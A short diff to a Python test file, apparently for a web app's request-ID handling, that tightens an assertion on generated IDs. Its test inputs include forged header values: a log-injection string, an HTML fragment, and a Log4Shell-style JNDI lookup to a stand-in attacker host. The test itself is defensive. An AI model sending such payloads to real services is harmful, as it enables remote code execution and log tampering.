@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import threading
 from collections.abc import Callable, Iterator
 from typing import Any
@@ -186,7 +187,7 @@ def test_an_app_can_refuse_every_incoming_request_id(make_app):
     app = make_app(view, settings={"deferred_task.trust_request_id_header": "false"})
     answer = app.get("/", headers={"X-Request-ID": "req-42"})
     assert answer.text == answer.headers["X-Request-ID"] != "req-42"
-    assert len(answer.text) == 32
+    assert re.fullmatch(r"[0-9a-f]{12}-[0-9a-f]+", answer.text)  # one of ours
 
 
 @pytest.mark.parametrize("forged", ["req|ERROR|forged", "${jndi:ldap://evil.example/a}", "<b>x</b>"])
